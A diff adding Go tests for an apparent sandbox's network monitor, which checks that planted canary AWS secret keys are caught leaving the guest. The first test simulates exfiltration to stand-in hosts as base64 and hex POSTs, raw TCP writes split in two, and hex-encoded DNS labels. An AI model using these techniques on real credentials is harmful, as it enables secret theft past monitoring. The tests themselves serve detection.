@@ -1,0 +1,107 @@
+package network_test
+
+import (
+	"crypto/rand"
+	"encoding/base64"
+	"encoding/hex"
+	"io"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/miekg/dns"
+
+	"github.com/sallyport-dev/sallyport/sandbox/canary"
+	"github.com/sallyport-dev/sallyport/sandbox/network"
+	"github.com/sallyport-dev/sallyport/sandbox/observation"
+)
+
+func TestStolenSecretsAreFound(t *testing.T) {
+	set, err := canary.New(rand.Reader)
+	if err != nil {
+		t.Fatal(err)
+	}
+	g := newGuest(t, func(c *network.Config) { c.Canaries = set; c.Limits.Flows = 5 })
+	secret := set.Value(canary.AWSSecretAccessKey)
+	post := func(url, body string) {
+		t.Helper()
+		r, err := g.browser(dns.TypeA).Post(url, "application/x-www-form-urlencoded", strings.NewReader(body))
+		if err != nil {
+			t.Fatal(err)
+		}
+		r.Body.Close()
+	}
+	// Each host is asked for by a DNS flow, then dialled: the limit is exceeded on purpose.
+	post("https://collector.example/up", "d="+base64.StdEncoding.EncodeToString([]byte("aws_secret_access_key = "+secret)))
+	post("https://sts.eu-central-1.amazonaws.com/", "key="+secret)
+	post("http://198.51.100.66:8443/", hex.EncodeToString([]byte(secret)))
+	io.WriteString(g.connect("198.51.100.67:9001"), "\x00\x01"+secret[:15])
+	raw := g.connect("198.51.100.68:9001")
+	io.WriteString(raw, "\x00\x01"+secret[:15])
+	time.Sleep(10 * time.Millisecond)
+	io.WriteString(raw, secret[15:])
+	for _, part := range []string{secret[:12], secret[12:]} {
+		g.ask("udp", g.resolver(), hex.EncodeToString([]byte(part))+".drop.example", dns.TypeA)
+	}
+
+	found := func(r network.Records) map[string]observation.Canary {
+		m := map[string]observation.Canary{}
+		for _, f := range r.Flows {
+			for _, c := range f.Canaries {
+				key := f.Domain + f.DstIP
+				if f.Domain != "" {
+					key = f.Domain
+				}
+				m[key] = c
+			}
+		}
+		return m
+	}
+	want := map[string]observation.Canary{
+		"collector.example":              {Encoding: "base64"},
+		"sts.eu-central-1.amazonaws.com": {Encoding: "raw", OwnDomain: true},
+		"198.51.100.66":                  {Encoding: "hex"},
+		"198.51.100.68":                  {Encoding: "raw"},
+		g.world.Resolver().String():      {Encoding: "hex"},
+	}
+	r := g.records("all secrets", func(r network.Records) bool { return len(found(r)) == len(want) })
+	for host, w := range want {
+		got := found(r)[host]
+		if got.Name != canary.AWSSecretAccessKey || got.Encoding != w.Encoding || got.OwnDomain != w.OwnDomain || len(got.Owner) == 0 {
+			t.Errorf("%s: %+v, want %+v", host, got, w)
+		}
+	}
+	if r.Beyond.Flows == 0 {
+		t.Error("the limit of flows did not matter")
+	}
+}
+
+func TestLimitsHold(t *testing.T) {
+	g := newGuest(t, func(c *network.Config) {
+		c.Limits = network.Limits{Flows: 10, Queries: 3, Requests: 2, Messages: 4, Excerpts: 1000}
+	})
+	client := g.browser(dns.TypeA)
+	for range 6 {
+		g.get(client, "http://many.example/")
+		g.ask("udp", g.resolver(), "many.example", dns.TypeA)
+	}
+	for range 10 {
+		g.connect("198.51.100.1:80").Close()
+	}
+	irc := g.connect("198.51.100.1:6667")
+	g.say(irc, "NICK a\r\nUSER a a a a\r\nPING 1\r\nPING 2\r\nPING 3\r\nPING 4\r\n", "PONG irc.example.net :4")
+	r := g.world.Records(g.start)
+	bytes := 0
+	for _, f := range r.Flows {
+		bytes += len(strings.ReplaceAll(strings.ReplaceAll(f.Out+f.In, `\x0d`, "."), `\x0a`, "."))
+	}
+	if len(r.Flows) != 10 || len(r.DNS) != 3 || len(r.HTTP) != 2 {
+		t.Errorf("kept %d flows, %d queries, %d requests", len(r.Flows), len(r.DNS), len(r.HTTP))
+	}
+	if b := r.Beyond; b.Flows == 0 || b.DNS < 3 || b.HTTP < 4 || b.Messages < 2 || b.Bytes == 0 {
+		t.Errorf("beyond the limits: %+v", b)
+	}
+	if bytes > 4000 { // 1000 of them, some escaped
+		t.Errorf("%d bytes were kept", bytes)
+	}
+}
